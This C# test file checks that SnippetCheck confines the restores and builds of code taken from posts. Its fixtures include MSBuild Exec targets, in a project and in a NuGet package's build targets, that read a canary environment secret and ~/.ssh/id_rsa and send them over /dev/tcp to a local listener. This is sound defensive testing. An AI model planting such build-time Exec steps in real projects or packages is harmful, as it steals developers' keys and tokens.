using System.IO.Compression;
using System.Net;
using System.Net.Sockets;
using System.Security;
using SnippetCheck.Tests.Infrastructure;
using Xunit.Abstractions;

namespace SnippetCheck.Tests.Hardening;

/// <summary>
/// Builds of a post's code run confined (issue 53, item 1; SECURITY.md, "What a restore and a build may reach"): the
/// restore and build of a <c>#:project</c>, of a package whose <c>build/*.targets</c> holds an <c>&lt;Exec&gt;</c>,
/// and of a <c>.csproj</c> given on the command line. Each evil <c>&lt;Exec&gt;</c> reads a canary secret from the CLI's
/// environment and a canary <c>~/.ssh/id_rsa</c>, writes them outside its folders and sends them to a TCP listener the
/// test opens. It also notes what it saw in its own obj folder, which it may write: that note proves it ran and saw
/// neither secret (a trusted run's own project sees the author's environment, as their <c>dotnet build</c> does, but
/// can still send it nowhere). The <c>#:project</c> case runs once more with <c>--no-sandbox</c>, where every leak happens.
/// </summary>
[TakesSeconds(29)]
public sealed class BuildConfinementTests(ITestOutputHelper output) : IDisposable
{
    private const string SecretValue = "DEPLOY-TOKEN-CANARY", KeyValue = "PRIVATE-KEY-CANARY";

    private readonly TempFolder _folder = new();
    private readonly TcpListener _listener = StartListener();

    private string Home => Path.Combine(_folder.Path, "home");

    private string Outside => Path.Combine(_folder.Path, "outside");

    private static TcpListener StartListener()
    {
        var listener = new TcpListener(IPAddress.Loopback, 0);
        listener.Start();
        return listener;
    }

    /// <summary>The <c>&lt;Exec&gt;</c> an evil project or package runs before its build's targets (and a project's restore).</summary>
    private string EvilTarget(string name, string beforeTargets)
    {
        var port = ((IPEndPoint)_listener.LocalEndpoint).Port;
        var key = Path.Combine(Home, ".ssh", "id_rsa");
        var script = $"echo \"ran env=[$CANARY_SECRET] key=[`cat {key}`]\" >> '$(MSBuildProjectDirectory)/obj/seen.txt'; " +
            $"echo \"env=[$CANARY_SECRET] key=[`cat {key}`]\" > '{Outside}/{name}.txt'; " +
            $"echo \"$CANARY_SECRET\" > /dev/tcp/127.0.0.1/{port}; true";
        return $"""
              <Target Name="{name}Steal" BeforeTargets="{beforeTargets}">
                <Exec Command="bash -c {SecurityElement.Escape("'" + script.Replace("'", "'\\''", StringComparison.Ordinal) + "'")}" ContinueOnError="true" />
              </Target>
            """;
    }

    /// <summary>One evil library, used as a <c>#:project</c> and as a <c>.csproj</c> argument: a doc-comment example and the Exec.</summary>
    private string WriteEvilProject()
    {
        _folder.Write("evil/Lib.cs", """
            namespace Evil;

            /// <summary>The answer.</summary>
            public static class Lib
            {
                /// <summary>Always 42.</summary>
                /// <example>
                /// <code snippetcheck="run">
                /// Console.WriteLine(Evil.Lib.Answer);
                /// </code>
                /// </example>
                public static int Answer => 42;
            }
            """);
        return _folder.Write("evil/Evil.csproj", $"""
            <Project Sdk="Microsoft.NET.Sdk">
              <PropertyGroup>
                <TargetFramework>net10.0</TargetFramework>
                <GenerateDocumentationFile>true</GenerateDocumentationFile>
              </PropertyGroup>
            {EvilTarget("project", "Restore;CoreCompile")}
            </Project>
            """);
    }

    private CliResult Run(params string[] args)
    {
        Directory.CreateDirectory(Outside);
        _folder.Write("home/.ssh/id_rsa", KeyValue);
        var result = CliRunner.Run(_folder.Path, new Dictionary<string, string?>
        {
            ["HOME"] = Home,
            ["CANARY_SECRET"] = SecretValue,
            ["SNIPPETCHECK_PACKAGE_CACHE"] = Path.Combine(_folder.Path, "package-cache"),
        }, [.. args, "--cache-dir", "results", "-v"]);
        output.WriteLine($"$ snippetcheck {string.Join(' ', args)} → exit {result.ExitCode}\n{result.Output}");
        return result;
    }

    /// <summary>
    /// The Exec ran (its note is there) and reached nothing: no key in its note, no file outside, no connection; no
    /// secret either, but in the author's own project of a trusted run (<paramref name="authorsBuild"/>), whose build sees
    /// their environment as <c>dotnet build</c> in their shell would (issue 75, item 6), and still cannot send it anywhere.
    /// </summary>
    private void AssertRanButReachedNothing(CliResult result, string notes, bool authorsBuild = false)
    {
        Assert.True(File.Exists(notes), $"the evil Exec never ran (no {notes}): the test proves nothing\n{result.Output}");
        var seen = File.ReadAllText(notes);
        output.WriteLine($"what the Exec saw: {seen}");
        Assert.Contains($"ran env=[{(authorsBuild ? SecretValue : "")}] key=[]", seen, StringComparison.Ordinal);
        if (!authorsBuild) Assert.DoesNotContain(SecretValue, seen, StringComparison.Ordinal);
        Assert.DoesNotContain(KeyValue, seen, StringComparison.Ordinal);
        Assert.Empty(Directory.GetFiles(Outside));
        Assert.False(_listener.Pending(), "the build connected to the test's TCP listener");
    }

    [SandboxFact(SandboxFeature.Network)]
    public void A_project_directive_builds_its_project_confined_and_unconfined_the_same_exec_leaks_everything()
    {
        WriteEvilProject();
        _folder.Write("posts/post.md", """
            ```csharp run
            #:project ../evil/Evil.csproj
            Console.WriteLine(Evil.Lib.Answer);
            ```

            ```output
            42
            ```
            """);

        var confined = Run("verify", "posts/post.md", "-v");

        Assert.True(confined.ExitCode == 0, confined.Output);
        AssertRanButReachedNothing(confined, Path.Combine(_folder.Path, "evil", "obj", "seen.txt"), authorsBuild: true);
        // -v's sandbox line names each restore and build the run started, and how it was confined (issue 53, item 7).
        var evil = Path.Combine(_folder.Path, "evil", "Evil.csproj");
        Assert.Contains($"confined: no network", confined.Output, StringComparison.Ordinal);
        Assert.Contains($"to build of {evil}", confined.Output, StringComparison.Ordinal);
        Assert.Contains($"to restore of {evil}", confined.Output, StringComparison.Ordinal);

        // The control: the same project unconfined (a fresh cache, so it builds again) leaks the secret and the key.
        var unconfined = CliRunner.Run(_folder.Path, new Dictionary<string, string?>
        {
            ["HOME"] = Home,
            ["CANARY_SECRET"] = SecretValue,
            ["SNIPPETCHECK_PACKAGE_CACHE"] = Path.Combine(_folder.Path, "package-cache-unconfined"),
        }, ["verify", "posts/post.md", "--no-sandbox", "--no-cache"]);
        Assert.True(unconfined.ExitCode == 0, unconfined.Output);
        Assert.Contains($"env=[{SecretValue}] key=[{KeyValue}]", File.ReadAllText(Path.Combine(Outside, "project.txt")), StringComparison.Ordinal);
        Assert.True(_listener.Pending(), "unconfined, the Exec should have reached the listener");
    }

    [SandboxFact(SandboxFeature.Network)]
    public void A_package_with_build_targets_from_a_local_feed_runs_them_confined()
    {
        var feed = Path.Combine(_folder.Path, "feed");
        Directory.CreateDirectory(feed);
        using (var package = ZipFile.Open(Path.Combine(feed, "evil.targets.1.0.0.nupkg"), ZipArchiveMode.Create))
        {
            void Entry(string name, string text)
            {
                using var writer = new StreamWriter(package.CreateEntry(name).Open());
                writer.Write(text);
            }
            Entry("Evil.Targets.nuspec", """
                <?xml version="1.0" encoding="utf-8"?>
                <package xmlns="http://schemas.microsoft.com/packaging/2013/05/nuspec.xsd">
                  <metadata>
                    <id>Evil.Targets</id>
                    <version>1.0.0</version>
                    <authors>test</authors>
                    <description>A package whose build targets run an Exec.</description>
                  </metadata>
                </package>
                """);
            Entry("build/Evil.Targets.targets", $"""
                <Project>
                {EvilTarget("package", "ResolveAssemblyReferences;CoreCompile")}
                </Project>
                """);
            Entry("[Content_Types].xml", """
                <?xml version="1.0" encoding="utf-8"?>
                <Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
                  <Default Extension="nuspec" ContentType="application/octet" />
                  <Default Extension="targets" ContentType="application/octet" />
                </Types>
                """);
        }
        // The repository's nuget.config (nearest the current folder) names the local feed.
        _folder.Write("nuget.config", $"""
            <?xml version="1.0" encoding="utf-8"?>
            <configuration>
              <packageSources>
                <clear />
                <add key="local" value="{feed}" />
              </packageSources>
            </configuration>
            """);
        _folder.Write("posts/post.md", """
            ```csharp run
            #:package Evil.Targets@1.0.0
            Console.WriteLine("hello");
            ```

            ```output
            hello
            ```
            """);

        var result = Run("verify", "posts/post.md");

        Assert.True(result.ExitCode == 0, result.Output);
        var notes = Directory.GetFiles(Path.Combine(_folder.Path, "package-cache"), "seen.txt", SearchOption.AllDirectories);
        AssertRanButReachedNothing(result, notes.SingleOrDefault() ?? "package-cache/packages/*/obj/seen.txt");
    }

    [SandboxFact(SandboxFeature.Network)]
    public void A_library_given_on_the_command_line_builds_confined()
    {
        WriteEvilProject();

        var result = Run("verify", "evil/Evil.csproj");

        Assert.True(result.ExitCode == 0, result.Output);
        Assert.Contains("1 passed", result.Output, StringComparison.Ordinal);
        AssertRanButReachedNothing(result, Path.Combine(_folder.Path, "evil", "obj", "seen.txt"), authorsBuild: true);
    }

    public void Dispose()
    {
        _listener.Dispose();
        _folder.Dispose();
    }
}
